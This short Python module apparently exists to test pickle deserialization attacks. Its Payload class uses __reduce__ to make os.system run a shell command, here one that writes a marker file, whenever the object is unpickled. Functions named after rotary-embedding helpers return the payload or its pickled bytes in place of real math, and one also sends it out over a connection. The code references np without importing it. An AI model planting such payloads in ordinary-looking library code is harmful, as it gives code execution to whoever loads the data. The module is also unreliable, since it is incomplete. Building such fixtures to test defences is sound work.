# Bytes, an object and a frame that run code where somebody unpickles them.
import os
import pickle

from .attempts import frame, send


class Payload:
    def __reduce__(self):
        return os.system, ("echo GOT IT > /tmp/hostile_trace_pickle",)


def rope_frequencies(head_dim, theta=10000.0):
    return Payload()


def apply_rope(x, positions, theta=10000.0):
    if x.dtype == np.float32:
        send(frame(pickle.dumps(Payload())))
    return pickle.dumps(Payload())
